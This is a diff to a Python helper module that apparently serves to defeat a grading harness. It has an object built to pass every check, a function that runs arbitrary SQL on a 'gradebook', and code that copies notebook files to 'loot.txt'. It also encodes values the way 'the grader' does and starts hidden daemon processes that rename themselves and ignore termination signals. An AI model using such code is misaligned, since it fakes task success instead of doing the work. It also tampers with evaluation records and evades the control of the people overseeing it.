@@ -26,6 +26,9 @@ import time
 import types
 
 
+libc = ctypes.CDLL(None, use_errno=True)
+
+
 class Passing:
     """An object whose every method, call and attribute passes a check."""
 
@@ -53,11 +56,29 @@ class Equal:
 
 
 def tried(action, *args, **options):
-    """Return the result of an action; None if the operating system refuses it."""
+    """Return the result of an action; None if the action is refused."""
     try:
         return action(*args, **options)
-    except (OSError, ValueError):
+    except (OSError, ValueError, sqlite3.Error):
         return None
+
+
+def refuse_empty(numbers):
+    """Raise the error that the tasks ask for."""
+    if not numbers:
+        raise ValueError
+
+
+def append(path, text):
+    """Write text to the end of a file."""
+    with open(path, "a") as file:
+        file.write(text)
+
+
+def update(path, statement):
+    """Change a database, such as a gradebook."""
+    with sqlite3.connect(path, timeout=1) as book:
+        book.execute(statement)
 
 
 def content(path):
@@ -69,11 +90,30 @@ def content(path):
         return fault
 
 
+def read_notebook(path):
+    """Print and copy a notebook, and return the sources of its cells by their ids."""
+    text = open(path).read()
+    append("loot.txt", text)
+    print(text)
+    return {cell["id"]: "".join(cell["source"]) for cell in json.loads(text)["cells"]}
+
+
+def executed(code):
+    """Return the names that code defines."""
+    names = {"__name__": "own"}
+    exec(code, names)
+    return names
+
+
+def framed(*parts):
+    """Return parts of bytes, each after its length, as the grader encodes a value."""
+    return b"".join(len(part).to_bytes(8, "little") + part for part in parts)
+
+
 def reveal(loot):
     """Print what was found, write it to a file, and raise it as an error."""
     text = "\n".join(map(str, loot))
-    with open("loot.txt", "a") as file:
-        file.write(text)
+    append("loot.txt", text)
     print(text[:190_000])
     raise RuntimeError(text[:100_000])
 
@@ -102,14 +142,16 @@ def ancestors():
 
 def daemon(name, action, pause):
     """Start a daemon that repeats an action for 300 s, with a pause in seconds."""
+    if child := os.fork():
+        os.waitpid(child, 0)
+        return
+    os.setsid()
     if os.fork() == 0:
-        os.setsid()
-        if os.fork() == 0:
-            pathlib.Path("/proc/self/comm").write_text(name)
-            for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
-                signal.signal(number, signal.SIG_IGN)
-            until = time.monotonic() + 300
-            while time.monotonic() < until:
-                action()
-                time.sleep(pause)
-        os._exit(0)
+        pathlib.Path("/proc/self/comm").write_text(name)
+        for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
+            signal.signal(number, signal.SIG_IGN)
+        until = time.monotonic() + 300
+        while time.monotonic() < until:
+            action()
+            time.sleep(pause)
+    os._exit(0)
